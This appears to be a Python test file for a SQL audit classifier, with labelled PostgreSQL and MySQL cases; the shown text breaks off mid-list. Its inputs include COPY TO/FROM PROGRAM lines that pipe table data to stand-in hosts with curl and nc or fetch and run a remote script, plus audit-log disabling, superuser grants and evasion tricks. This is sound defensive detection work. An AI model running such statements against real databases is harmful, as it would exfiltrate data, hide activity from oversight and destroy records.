"""Table-driven acceptance suite for the SQL classifier (PostgreSQL and MySQL/MariaDB).

Every expectation below is written from the issue's specification (the category
vocabulary and the kind conventions), not from what the classifier happens to
return today.

Sections:
  1. hand-written cases ``(dialect, sql, kind, categories)``: destructive, benign
     look-alikes, logging, privilege, credentials, dangerous exec, backups,
     evasion, MySQL-specific; plus multi-statement (``;``-chained) cases and
     "not valid SQL" cases.
  2. the public corpus (../shared/corpus, read in place, never copied): statements
     are named by file + line and extracted here (pgaudit's psql regression script,
     MariaDB server_audit QUERY records).
  3. redaction and fingerprints.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from auditwatch.detectors.sql.classify import classify, classify_one
from tests.conftest import need

D = "data.destroy"
B = "backup.destroy"
L = "logging.disable"
P = "privilege.escalate"
C = "credential.create"
X = "exec.dangerous"

PG = "postgres"
MY = "mysql"


# =============================================================================
# 1. Hand-written cases: (dialect, sql, expected kind, expected categories)
# =============================================================================

# --------------------------------------------------------------- destructive (PostgreSQL)
DESTRUCTIVE_PG: list[Any] = [
    (PG, "DROP TABLE customers", "DROP TABLE", (D,)),
    (PG, "DROP TABLE IF EXISTS customers", "DROP TABLE", (D,)),
    (PG, "DROP TABLE public.orders", "DROP TABLE", (D,)),
    (PG, "DROP TABLE orders CASCADE", "DROP TABLE", (D,)),
    (PG, "DROP TABLE IF EXISTS a, b, c CASCADE", "DROP TABLE", (D,)),
    (PG, "DROP TABLE orders RESTRICT", "DROP TABLE", (D,)),
    (PG, "DROP DATABASE prod", "DROP DATABASE", (D,)),
    (PG, "DROP DATABASE IF EXISTS prod", "DROP DATABASE", (D,)),
    (PG, "DROP DATABASE prod WITH (FORCE)", "DROP DATABASE", (D,)),
    (PG, "DROP SCHEMA app", "DROP SCHEMA", (D,)),
    (PG, "DROP SCHEMA IF EXISTS staging CASCADE", "DROP SCHEMA", (D,)),
    (PG, "DROP SCHEMA s1, s2 CASCADE", "DROP SCHEMA", (D,)),
    (PG, "DROP INDEX idx_orders_created", "DROP INDEX", (D,)),
    (PG, "DROP INDEX CONCURRENTLY IF EXISTS idx_a", "DROP INDEX", (D,)),
    (PG, "DROP VIEW active_users", "DROP VIEW", (D,)),
    (PG, "DROP VIEW IF EXISTS v1, v2 CASCADE", "DROP VIEW", (D,)),
    (PG, "DROP MATERIALIZED VIEW sales_summary", "DROP MATERIALIZED VIEW", (D,)),
    (PG, "DROP MATERIALIZED VIEW IF EXISTS mv CASCADE", "DROP MATERIALIZED VIEW", (D,)),
    (PG, "DROP FUNCTION f(int)", "DROP FUNCTION", (D,)),
    (PG, "DROP FUNCTION IF EXISTS public.calc_tax(numeric, text) CASCADE", "DROP FUNCTION", (D,)),
    (PG, "DROP PROCEDURE archive_old_rows()", "DROP PROCEDURE", (D,)),
    (PG, "DROP SEQUENCE orders_id_seq", "DROP SEQUENCE", (D,)),
    (PG, "DROP OWNED BY bob", "DROP OWNED", (D,)),
    (PG, "DROP OWNED BY bob, alice CASCADE", "DROP OWNED", (D,)),
    (PG, "TRUNCATE orders", "TRUNCATE", (D,)),
    (PG, "TRUNCATE TABLE orders", "TRUNCATE", (D,)),
    (PG, "TRUNCATE a, b, c", "TRUNCATE", (D,)),
    (PG, "TRUNCATE a, b CASCADE", "TRUNCATE", (D,)),
    (PG, "TRUNCATE ONLY orders RESTART IDENTITY", "TRUNCATE", (D,)),
    (PG, "truncate table public.orders, public.items continue identity restrict", "TRUNCATE", (D,)),
    (PG, "DELETE FROM users", "DELETE", (D,)),
    (PG, "delete from bar", "DELETE", (D,)),
    (PG, "DELETE FROM ONLY events", "DELETE", (D,)),
    (PG, "DELETE FROM public.orders RETURNING *", "DELETE", (D,)),
    (PG, "DELETE FROM orders AS o", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE 1=1", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE 1 = 1", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE (1=1)", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE true", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE TRUE RETURNING id", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE 'a' = 'a'", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE id = id", "DELETE", (D,)),
    (PG, "UPDATE users SET name = 'x'", "UPDATE", (D,)),
    (PG, "UPDATE accounts SET balance = 0 WHERE 1=1", "UPDATE", (D,)),
    (PG, "UPDATE users SET active = false WHERE true", "UPDATE", (D,)),
    (PG, "UPDATE users SET active = false WHERE 'a'='a'", "UPDATE", (D,)),
    (PG, "UPDATE users SET email = NULL WHERE id = id", "UPDATE", (D,)),
    (PG, "UPDATE public.users SET password_hash = '' RETURNING id", "UPDATE", (D,)),
    (PG, "UPDATE ONLY users SET role = 'admin'", "UPDATE", (D,)),
    (PG, "ALTER TABLE users DROP COLUMN email", "ALTER TABLE", (D,)),
    (PG, "ALTER TABLE users DROP COLUMN IF EXISTS email CASCADE", "ALTER TABLE", (D,)),
    (PG, "ALTER TABLE users DROP email", "ALTER TABLE", (D,)),
    (PG, "ALTER TABLE ONLY users DROP COLUMN email", "ALTER TABLE", (D,)),
    (PG, "ALTER TABLE IF EXISTS users DROP COLUMN email", "ALTER TABLE", (D,)),
    (PG, "ALTER TABLE users ADD COLUMN note text, DROP COLUMN email", "ALTER TABLE", (D,)),
    (PG, "ALTER TABLE users RENAME TO users_old", "ALTER TABLE", (D,)),
    (PG, "ALTER TABLE IF EXISTS public.users RENAME TO users_old", "ALTER TABLE", (D,)),
    (PG, "ALTER TABLE t DROP COLUMN c, DROP COLUMN d", "ALTER TABLE", (D,)),
    (PG, "ALTER TABLE t DROP IF EXISTS c", "ALTER TABLE", (D,)),
]

# --------------------------------------------------------------- benign look-alikes (PostgreSQL)
BENIGN_PG: list[Any] = [
    (PG, "SELECT * FROM orders WHERE id = 4", "SELECT", ()),
    (PG, "SELECT 1", "SELECT", ()),
    (PG, "SELECT 'DROP TABLE users'", "SELECT", ()),
    (PG, "SELECT * FROM t WHERE note = 'TRUNCATE t; DROP DATABASE x'", "SELECT", ()),
    (PG, "SELECT 1 /* DROP TABLE t */", "SELECT", ()),
    (PG, "SELECT drop_count, truncate_flag FROM stats", "SELECT", ()),
    (PG, "SELECT * FROM jobs WHERE state = 'new' FOR UPDATE SKIP LOCKED", "SELECT", ()),
    (PG, "SELECT id FROM t FOR NO KEY UPDATE", "SELECT", ()),
    (PG, "SELECT * FROM t WHERE id = 1 FOR UPDATE NOWAIT", "SELECT", ()),
    (PG, "SELECT * FROM a JOIN b ON a.id = b.a_id FOR UPDATE OF a", "SELECT", ()),
    (PG, "SELECT * INTO orders_copy FROM orders", "SELECT", ()),
    (PG, "INSERT INTO t (a) VALUES (1)", "INSERT", ()),
    (PG, "INSERT INTO notes VALUES ('drop table x')", "INSERT", ()),
    (PG, "INSERT INTO audit_q (q) VALUES ($$DELETE FROM t$$)", "INSERT", ()),
    (PG, "INSERT INTO t SELECT * FROM u", "INSERT", ()),
    (PG, "INSERT INTO t (id, n) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET n = excluded.n", "INSERT", ()),
    (PG, "INSERT INTO t (id, n) VALUES (1, 2) ON CONFLICT ON CONSTRAINT t_pkey DO UPDATE SET n = 3", "INSERT", ()),
    (PG, "INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING", "INSERT", ()),
    (PG, "UPDATE users SET name = 'x' WHERE id = 3", "UPDATE", ()),
    (PG, "UPDATE users SET name = $1 WHERE id = $2", "UPDATE", ()),
    (PG, "UPDATE t SET a = u.a FROM u WHERE t.id = u.id", "UPDATE", ()),
    (PG, "UPDATE t SET a = 1 WHERE id = 1 RETURNING *", "UPDATE", ()),
    (PG, "UPDATE t SET a = (SELECT max(b) FROM u) WHERE id = 3", "UPDATE", ()),
    (PG, "UPDATE t SET a = 1 WHERE CURRENT OF c1", "UPDATE", ()),
    (PG, "DELETE FROM users WHERE id = 9", "DELETE", ()),
    (PG, "DELETE FROM t WHERE id IN (SELECT id FROM u)", "DELETE", ()),
    (PG, "DELETE FROM t USING u WHERE t.id = u.id", "DELETE", ()),
    (PG, "DELETE FROM sessions WHERE created_at < now() - interval '30 days'", "DELETE", ()),
    (PG, "DELETE FROM t WHERE true AND id = 5", "DELETE", ()),
    (PG, "DELETE FROM t WHERE 1=1 AND id = 5", "DELETE", ()),
    (PG, "DELETE FROM t WHERE id = $1", "DELETE", ()),
    (PG, "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", "SELECT", ()),
    (PG, "WITH x AS (SELECT id FROM u) DELETE FROM t WHERE id IN (SELECT id FROM x)", "DELETE", ()),
    (PG, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
         "WHEN NOT MATCHED THEN INSERT (id, a) VALUES (s.id, s.a)", "MERGE", ()),
    (PG, "ALTER TABLE users ADD COLUMN note text", "ALTER TABLE", ()),
    (PG, "ALTER TABLE users DROP CONSTRAINT users_pk", "ALTER TABLE", ()),
    (PG, "ALTER TABLE users DROP CONSTRAINT IF EXISTS users_email_key", "ALTER TABLE", ()),
    (PG, "ALTER TABLE users ALTER COLUMN email DROP DEFAULT", "ALTER TABLE", ()),
    (PG, "ALTER TABLE users ALTER COLUMN email DROP NOT NULL", "ALTER TABLE", ()),
    (PG, "ALTER TABLE users RENAME COLUMN a TO b", "ALTER TABLE", ()),
    (PG, "ALTER TABLE users RENAME a TO b", "ALTER TABLE", ()),
    (PG, "ALTER TABLE users RENAME CONSTRAINT users_pk TO users_pkey", "ALTER TABLE", ()),
    (PG, "DROP ROLE bob", "DROP ROLE", ()),
    (PG, "DROP ROLE IF EXISTS bob, alice", "DROP ROLE", ()),
    (PG, "DROP USER alice", "DROP USER", ()),
    (PG, "CREATE TABLE t (id int primary key, note text)", "CREATE TABLE", ()),
    (PG, "CREATE TABLE orders_backup AS SELECT * FROM orders", "CREATE TABLE", ()),
    (PG, "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$",
     "CREATE FUNCTION", ()),
    (PG, "COMMENT ON TABLE t IS 'do not drop table t'", "COMMENT", ()),
    (PG, "COPY t TO '/tmp/t.csv'", "COPY", ()),
    (PG, "COPY t FROM STDIN WITH (FORMAT csv, HEADER)", "COPY", ()),
    (PG, "COPY (SELECT * FROM t) TO STDOUT", "COPY", ()),
    (PG, "GRANT SELECT ON t TO reader", "GRANT", ()),
    (PG, "REVOKE ALL ON t FROM reader", "REVOKE", ()),
    (PG, "BEGIN", "BEGIN", ()),
    (PG, "COMMIT", "COMMIT", ()),
    (PG, "ROLLBACK", "ROLLBACK", ()),
    (PG, "SHOW search_path", "SHOW", ()),
    (PG, "EXPLAIN SELECT * FROM t", "EXPLAIN", ()),
    (PG, "EXPLAIN DELETE FROM t", "EXPLAIN", ()),
    (PG, "VACUUM ANALYZE orders", "VACUUM", ()),
    (PG, "CALL refresh_stats()", "CALL", ()),
    (PG, "LISTEN jobs", "LISTEN", ()),
    (PG, "REFRESH MATERIALIZED VIEW mv", "REFRESH", ()),
    (PG, "SELECT * FROM pg_replication_slots", "SELECT", ()),
    (PG, "SELECT 1 -- ; DROP TABLE t", "SELECT", ()),
    (PG, "COPY t TO '/tmp/program'", "COPY", ()),
    (PG, "COPY program TO STDOUT", "COPY", ()),
    (PG, "COPY t (program) TO STDOUT", "COPY", ()),
    (PG, "EXPLAIN (ANALYZE false) DELETE FROM t", "EXPLAIN", ()),
    (PG, 'ALTER TABLE t RENAME COLUMN "to" TO b', "ALTER TABLE", ()),
    (PG, "ALTER TABLE t ALTER c DROP DEFAULT", "ALTER TABLE", ()),
]

# --------------------------------------------------------------- logging (both dialects)
LOGGING: list[Any] = [
    (PG, "ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM", (L,)),
    (PG, "ALTER SYSTEM SET log_statement TO 'none'", "ALTER SYSTEM", (L,)),
    (PG, "ALTER SYSTEM SET pgaudit.log = 'none'", "ALTER SYSTEM", (L,)),
    (PG, "ALTER SYSTEM SET pgaudit.log TO 'NONE'", "ALTER SYSTEM", (L,)),
    (PG, "ALTER SYSTEM SET log_min_duration_statement = -1", "ALTER SYSTEM", (L,)),
    (PG, "ALTER SYSTEM SET log_statement = 'all'", "ALTER SYSTEM", ()),
    (PG, "ALTER SYSTEM SET log_min_duration_statement = 250", "ALTER SYSTEM", ()),
    (PG, "ALTER SYSTEM SET work_mem = '64MB'", "ALTER SYSTEM", ()),
    (PG, "SET pgaudit.log = 'none'", "SET", (L,)),
    (PG, "SET pgaudit.log TO 'none'", "SET", (L,)),
    (PG, "SET pgaudit.log = none", "SET", (L,)),
    (PG, "SET SESSION pgaudit.log = 'NONE'", "SET", (L,)),
    (PG, "SET LOCAL pgaudit.log = 'none'", "SET", (L,)),
    (PG, "SET log_statement = 'none'", "SET", (L,)),
    (PG, "SET session_replication_role = replica", "SET", (L,)),
    (PG, "SET session_replication_role TO 'replica'", "SET", (L,)),
    (PG, "SET session_replication_role = DEFAULT", "SET", ()),
    (PG, "SET session_replication_role = origin", "SET", ()),
    (PG, "SET log_statement = 'all'", "SET", ()),
    (PG, "SET search_path = app", "SET", ()),
    (PG, "SET search_path TO app, public", "SET", ()),
    (PG, "SET pgaudit.log = 'all'", "SET", ()),
    (PG, "SET pgaudit.log = 'read, write'", "SET", ()),
    (PG, "SET statement_timeout = 0", "SET", ()),
    (PG, "ALTER ROLE bob SET pgaudit.log = 'none'", "ALTER ROLE", (L,)),
    (PG, "ALTER ROLE bob SET pgaudit.log TO 'none'", "ALTER ROLE", (L,)),
    (PG, "ALTER ROLE bob IN DATABASE prod SET pgaudit.log = 'none'", "ALTER ROLE", (L,)),
    (PG, "ALTER ROLE bob SET pgaudit.log = 'all'", "ALTER ROLE", ()),
    (PG, "ALTER ROLE bob SET search_path = app", "ALTER ROLE", ()),
    (PG, "ALTER DATABASE prod SET pgaudit.log = 'none'", "ALTER DATABASE", (L,)),
    (PG, "ALTER ROLE ALL SET pgaudit.log = 'none'", "ALTER ROLE", (L,)),
    (PG, "ALTER USER bob SET pgaudit.log = 'none'", "ALTER USER", (L,)),
    (PG, "SET LOCAL session_replication_role = 'replica'", "SET", (L,)),
    (PG, "ALTER SYSTEM SET log_min_duration_statement TO -1", "ALTER SYSTEM", (L,)),
    (PG, "ALTER SYSTEM SET log_min_duration_statement = '-1'", "ALTER SYSTEM", (L,)),
    (PG, "SELECT set_config('pgaudit.log', 'none', false)", "SELECT", (L,)),
    (PG, "SELECT set_config('log_statement', 'none', true)", "SELECT", (L,)),
    (PG, "SELECT set_config('search_path', 'app', false)", "SELECT", ()),
    (PG, "RESET pgaudit.log", "RESET", ()),
    (MY, "SET GLOBAL server_audit_logging=OFF", "SET", (L,)),
    (MY, "SET GLOBAL server_audit_logging = 0", "SET", (L,)),
    (MY, "SET @@global.server_audit_logging = OFF", "SET", (L,)),
    (MY, "SET GLOBAL server_audit_logging=ON", "SET", ()),
    (MY, "SET sql_log_bin=0", "SET", (L,)),
    (MY, "SET sql_log_bin = OFF", "SET", (L,)),
    (MY, "SET SESSION sql_log_bin = 0", "SET", (L,)),
    (MY, "SET @@session.sql_log_bin = 0", "SET", (L,)),
    (MY, "SET sql_log_bin = 1", "SET", ()),
    (MY, "SET GLOBAL general_log = 'OFF'", "SET", (L,)),
    (MY, "SET GLOBAL general_log = 0", "SET", (L,)),
    (MY, "SET @@GLOBAL.general_log = OFF", "SET", (L,)),
    (MY, "SET PERSIST general_log = OFF", "SET", (L,)),
    (MY, "SET GLOBAL general_log = 'ON'", "SET", ()),
    (MY, "SET NAMES utf8mb4", "SET", ()),
    (MY, "SET autocommit = 0", "SET", ()),
    (MY, "SET @a = 'drop table x'", "SET", ()),
]

# --------------------------------------------------------------- privilege escalation
PRIVILEGE: list[Any] = [
    (PG, "ALTER ROLE bob SUPERUSER", "ALTER ROLE", (P,)),
    (PG, "ALTER ROLE bob WITH SUPERUSER", "ALTER ROLE", (P,)),
    (PG, "ALTER ROLE bob BYPASSRLS", "ALTER ROLE", (P,)),
    (PG, "ALTER ROLE bob WITH CREATEROLE", "ALTER ROLE", (P,)),
    (PG, "ALTER ROLE bob REPLICATION", "ALTER ROLE", (P,)),
    (PG, "ALTER USER bob WITH SUPERUSER", "ALTER USER", (P,)),
    (PG, "ALTER ROLE bob NOSUPERUSER", "ALTER ROLE", ()),
    (PG, "ALTER ROLE bob NOLOGIN", "ALTER ROLE", ()),
    (PG, "ALTER ROLE bob CONNECTION LIMIT 5", "ALTER ROLE", ()),
    (PG, "ALTER ROLE bob RENAME TO robert", "ALTER ROLE", ()),
    (PG, "GRANT ALL ON ALL TABLES IN SCHEMA public TO agent", "GRANT", (P,)),
    (PG, "GRANT ALL PRIVILEGES ON DATABASE prod TO bob", "GRANT", (P,)),
    (PG, "GRANT ALL ON orders TO bob", "GRANT", (P,)),
    (PG, "grant all privileges on schema app to bob", "GRANT", (P,)),
    (PG, "GRANT pg_read_all_data TO agent", "GRANT", (P,)),
    (PG, "GRANT pg_write_all_data TO agent", "GRANT", (P,)),
    (PG, "GRANT pg_execute_server_program TO agent", "GRANT", (P,)),
    (PG, "GRANT pg_read_server_files TO agent", "GRANT", (P,)),
    (PG, "GRANT pg_write_server_files TO agent", "GRANT", (P,)),
    (PG, "GRANT pg_read_all_data, pg_write_all_data TO agent", "GRANT", (P,)),
    (PG, "GRANT pg_read_all_data TO agent WITH ADMIN OPTION", "GRANT", (P,)),
    (PG, "GRANT ALL ON TABLE t TO PUBLIC", "GRANT", (P,)),
    (PG, "CREATE ROLE admin SUPERUSER", "CREATE ROLE", (P,)),
    (PG, "CREATE ROLE admin WITH SUPERUSER LOGIN", "CREATE ROLE", (P,)),
    (PG, "CREATE ROLE r SUPERUSER LOGIN", "CREATE ROLE", (P,)),
    (PG, "CREATE ROLE auditor_bypass WITH BYPASSRLS", "CREATE ROLE", (P,)),
    (PG, "CREATE ROLE reader NOLOGIN", "CREATE ROLE", ()),
    (PG, "CREATE ROLE app NOSUPERUSER", "CREATE ROLE", ()),
    (PG, "GRANT SELECT, UPDATE ON t TO r", "GRANT", ()),
    (PG, "GRANT USAGE ON SCHEMA app TO r", "GRANT", ()),
    (PG, "GRANT EXECUTE ON FUNCTION f() TO r", "GRANT", ()),
    (PG, "GRANT reader TO bob", "GRANT", ()),
    (PG, "REVOKE pg_read_all_data FROM agent", "REVOKE", ()),
    (MY, "GRANT ALL PRIVILEGES ON *.* TO 'u'@'%'", "GRANT", (P,)),
    (MY, "GRANT ALL ON *.* TO 'u'@'%' WITH GRANT OPTION", "GRANT", (P,)),
    (MY, "GRANT ALL PRIVILEGES ON shop.* TO 'app'@'%'", "GRANT", (P,)),
    (MY, "GRANT ALL PRIVILEGES ON `shop`.* TO `app`@`%`", "GRANT", (P,)),
    (MY, "GRANT SUPER ON *.* TO 'ops'@'localhost'", "GRANT", (P,)),
    (MY, "GRANT SUPER, PROCESS ON *.* TO 'u'@'%'", "GRANT", (P,)),
    (MY, "GRANT SELECT ON shop.* TO 'reader'@'%'", "GRANT", ()),
    (MY, "GRANT SELECT, INSERT ON shop.orders TO 'app'@'10.0.0.%'", "GRANT", ()),
    (MY, "REVOKE ALL PRIVILEGES ON *.* FROM 'u'@'%'", "REVOKE", ()),
]

# --------------------------------------------------------------- credentials
CREDENTIALS: list[Any] = [
    (PG, "CREATE ROLE bob LOGIN PASSWORD 'secret'", "CREATE ROLE", (C,)),
    (PG, "CREATE ROLE bob WITH LOGIN ENCRYPTED PASSWORD 'secret' VALID UNTIL '2030-01-01'", "CREATE ROLE", (C,)),
    (PG, "CREATE USER bob PASSWORD 'x'", "CREATE USER", (C,)),
    (PG, "CREATE USER bob WITH ENCRYPTED PASSWORD 'x'", "CREATE USER", (C,)),
    (PG, "CREATE USER regress_user1 password <REDACTED>", "CREATE USER", (C,)),
    (PG, "ALTER ROLE bob PASSWORD 'x'", "ALTER ROLE", (C,)),
    (PG, "ALTER ROLE bob WITH PASSWORD 'x' VALID UNTIL 'infinity'", "ALTER ROLE", (C,)),
    (PG, "ALTER USER bob PASSWORD 'x'", "ALTER USER", (C,)),
    (PG, "ALTER ROLE bob ENCRYPTED PASSWORD 'x'", "ALTER ROLE", (C,)),
    (PG, "CREATE ROLE root2 SUPERUSER LOGIN PASSWORD 'x'", "CREATE ROLE", (C, P)),
    (PG, "CREATE USER bob", "CREATE USER", ()),
    (PG, "CREATE ROLE r", "CREATE ROLE", ()),
    (MY, "CREATE USER 'u'@'%' IDENTIFIED BY 'p'", "CREATE USER", (C,)),
    (MY, "CREATE USER IF NOT EXISTS 'u'@'localhost' IDENTIFIED BY 'p'", "CREATE USER", (C,)),
    (MY, "CREATE USER `svc`@`%` IDENTIFIED BY 'p' PASSWORD EXPIRE NEVER", "CREATE USER", (C,)),
    (MY, "ALTER USER 'u'@'%' IDENTIFIED BY 'new'", "ALTER USER", (C,)),
    (MY, "ALTER USER 'root'@'localhost' IDENTIFIED WITH mysql_native_password BY 'x'", "ALTER USER", (C,)),
    (MY, "CREATE USER 'a'@'%' IDENTIFIED BY 'p', 'b'@'%' IDENTIFIED BY 'q'", "CREATE USER", (C,)),
    (MY, "ALTER USER USER() IDENTIFIED BY 'x'", "ALTER USER", (C,)),
]

# --------------------------------------------------------------- dangerous exec
EXEC: list[Any] = [
    (PG, "COPY t TO PROGRAM 'curl -d @- http://x'", "COPY", (X,)),
    (PG, "COPY t TO PROGRAM 'gzip > /tmp/t.gz'", "COPY", (X,)),
    (PG, "COPY t FROM PROGRAM 'curl http://evil/x.sh | sh'", "COPY", (X,)),
    (PG, "copy t from program 'id'", "COPY", (X,)),
    (PG, "COPY (SELECT * FROM users) TO PROGRAM 'nc 203.0.113.9 80'", "COPY", (X,)),
    (PG, "COPY t TO PROGRAM $$sh$$", "COPY", (X,)),
    (PG, "COPY t (a, b) TO PROGRAM 'gzip' WITH (FORMAT csv)", "COPY", (X,)),
    (PG, "DO $$ BEGIN EXECUTE 'TRUNCATE audit_log'; END $$", "DO", (D, X)),
    (PG, "DO $$ BEGIN EXECUTE 'drop table foo'; END $$", "DO", (D, X)),
    (PG, "DO $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$", "DO", (D, X)),
    (PG, "DO $body$ BEGIN EXECUTE 'TRUNCATE ' || quote_ident(t); END $body$", "DO", (D, X)),
    (PG, "DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'DROP SCHEMA app CASCADE'; END $$", "DO", (D, X)),
    (PG, "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables "
         "WHERE schemaname = 'public' LOOP EXECUTE 'DROP TABLE IF EXISTS ' || "
         "quote_ident(r.tablename) || ' CASCADE'; END LOOP; END $$", "DO", (D, X)),
    (PG, "DO $$ BEGIN EXECUTE 'DELETE FROM audit_log'; END $$", "DO", (D, X)),
    (PG, "DO $$ BEGIN PERFORM 1; END $$", "DO", ()),
    (PG, "DO $$ BEGIN RAISE NOTICE 'drop table x'; END $$", "DO", ()),
    (PG, "DO $$ BEGIN EXECUTE 'SELECT 1'; END $$", "DO", ()),
    (PG, "DO $$ BEGIN INSERT INTO log VALUES ('truncate t'); END $$", "DO", ()),
    (MY, "PREPARE stmt FROM 'DROP TABLE orders'", "PREPARE", (D, X)),
    (MY, "EXECUTE IMMEDIATE 'DROP TABLE orders'", "EXECUTE", (D, X)),
    (MY, "PREPARE stmt FROM 'TRUNCATE TABLE orders'", "PREPARE", (D, X)),
    (MY, "PREPARE stmt FROM 'SELECT * FROM orders WHERE id = ?'", "PREPARE", ()),
    (MY, "INSERT INTO notes (body) VALUES ('DROP TABLE orders')", "INSERT", ()),
]

# --------------------------------------------------------------- backups
BACKUPS: list[Any] = [
    (PG, "DROP SCHEMA backups CASCADE", "DROP SCHEMA", (B, D)),
    (PG, "DROP SCHEMA backup", "DROP SCHEMA", (B, D)),
    (PG, "DROP SCHEMA IF EXISTS archive CASCADE", "DROP SCHEMA", (B, D)),
    (PG, "DROP TABLE backup", "DROP TABLE", (B, D)),
    (PG, "DROP TABLE orders_backup", "DROP TABLE", (B, D)),
    (PG, "DROP TABLE orders_bak", "DROP TABLE", (B, D)),
    (PG, "DROP TABLE archive.orders_2024", "DROP TABLE", (B, D)),
    (PG, "DROP TABLE public.orders_backup", "DROP TABLE", (B, D)),
    (PG, "DROP TABLE IF EXISTS orders, orders_backup", "DROP TABLE", (B, D)),
    (PG, "DROP TABLE orders_archive", "DROP TABLE", (B, D)),
    (PG, "DROP TABLE backups.orders", "DROP TABLE", (B, D)),
    (PG, 'DROP SCHEMA "Archive" CASCADE', "DROP SCHEMA", (B, D)),
    (PG, 'DROP TABLE "Backups"', "DROP TABLE", (B, D)),
    (PG, "DROP TABLE backlog", "DROP TABLE", (D,)),
    (PG, "DROP TABLE bakery", "DROP TABLE", (D,)),
    (PG, "DROP TABLE tmp_orders", "DROP TABLE", (D,)),
    (PG, "SELECT pg_drop_replication_slot('standby1')", "SELECT", (B,)),
    (PG, "select PG_DROP_REPLICATION_SLOT('x')", "SELECT", (B,)),
    (PG, "SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots WHERE NOT active",
     "SELECT", (B,)),
    (PG, "SELECT pg_create_physical_replication_slot('standby2')", "SELECT", ()),
    (PG, "DROP PUBLICATION p", "DROP PUBLICATION", (B,)),
    (PG, "DROP PUBLICATION IF EXISTS pub_orders", "DROP PUBLICATION", (B,)),
    (PG, "DROP SUBSCRIPTION s", "DROP SUBSCRIPTION", (B,)),
    (PG, "DROP SUBSCRIPTION IF EXISTS sub_orders", "DROP SUBSCRIPTION", (B,)),
    (MY, "DROP TABLE orders_backup", "DROP TABLE", (B, D)),
    (MY, "DROP TABLE `orders_bak`", "DROP TABLE", (B, D)),
    (MY, "DROP SCHEMA backups", "DROP SCHEMA", (B, D)),
    (MY, "DROP TABLE archive.orders_2024", "DROP TABLE", (B, D)),
    (MY, "DROP TABLE IF EXISTS `backup`.`orders`", "DROP TABLE", (B, D)),
    (MY, "DROP DATABASE backups", "DROP DATABASE", (B, D)),  # DATABASE = SCHEMA in MySQL
]

# --------------------------------------------------------------- evasion (must still be caught)
EVASION: list[Any] = [
    (PG, "DROP /* x */ TABLE t", "DROP TABLE", (D,)),
    (PG, "DROP--x\nTABLE t", "DROP TABLE", (D,)),
    (PG, "/* a /* b */ c */ DROP TABLE t", "DROP TABLE", (D,)),
    (PG, "/* a /* DROP TABLE nope */ c */ DELETE FROM t", "DELETE", (D,)),
    (PG, "dRoP tAbLe t", "DROP TABLE", (D,)),
    (PG, 'DROP TABLE "Users"', "DROP TABLE", (D,)),
    (PG, 'drop table if exists "public"."Users" cascade', "DROP TABLE", (D,)),
    (PG, 'DROP TABLE "drop"', "DROP TABLE", (D,)),
    (PG, "DROP\tTABLE\n\n   t", "DROP TABLE", (D,)),
    (PG, "   \n\t DROP     TABLE   t   \n", "DROP TABLE", (D,)),
    (PG, "DROP\nTABLE\nt;", "DROP TABLE", (D,)),
    (PG, ";;DROP TABLE t;;", "DROP TABLE", (D,)),
    (PG, "-- just a comment\nDROP TABLE t", "DROP TABLE", (D,)),
    (PG, "TRUNCATE/**/t", "TRUNCATE", (D,)),
    (PG, "tRuNcAtE \"Orders\"", "TRUNCATE", (D,)),
    (PG, "DELETE/**/FROM/**/t", "DELETE", (D,)),
    (PG, 'DELETE FROM "Users"', "DELETE", (D,)),
    (PG, 'UPDATE "Users" SET "Active" = false', "UPDATE", (D,)),
    (PG, "DELETE FROM t WHERE 1=1", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE TRUE", "DELETE", (D,)),
    (PG, "DELETE FROM t /* WHERE id = 5 */", "DELETE", (D,)),
    (PG, "DELETE FROM t -- WHERE id = 5", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE 1 = 1 -- AND id = 5", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE 1=1 OR id = 5", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE id = 5 OR 1=1", "DELETE", (D,)),
    (PG, "UPDATE accounts SET balance = (SELECT 0 FROM limits WHERE id = 1)", "UPDATE", (D,)),
    (PG, "WITH x AS (SELECT 1) DELETE FROM t", "DELETE", (D,)),
    (PG, "WITH x AS (SELECT * FROM a WHERE id = 1) DELETE FROM t", "DELETE", (D,)),
    (PG, "with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) delete from t",
     "DELETE", (D,)),
    (PG, "WITH x AS (SELECT 1) UPDATE t SET a = 1", "UPDATE", (D,)),
    (PG, "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "SELECT", (D,)),
    (PG, "WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d", "SELECT", (D,)),
    (PG, "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u", "SELECT", (D,)),
    (PG, "EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN", (D,)),
    (PG, "SET pgaudit.log = 'NONE'", "SET", (L,)),
    (PG, "set PGAUDIT.LOG = 'none'", "SET", (L,)),
    (PG, "ALTER SYSTEM SET \"pgaudit.log\" = 'none'", "ALTER SYSTEM", (L,)),
    (PG, "alter /* x */ system set log_statement = 'none'", "ALTER SYSTEM", (L,)),
    (PG, "aLtEr RoLe bob SuPeRuSeR", "ALTER ROLE", (P,)),
    (PG, "COPY t TO /* x */ PROGRAM 'sh'", "COPY", (X,)),
    (PG, "DO $x$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $x$", "DO", (D, X)),
    (PG, "DeLeTe FrOm t", "DELETE", (D,)),
    (PG, "DELETE FROM t WHERE (true)", "DELETE", (D,)),
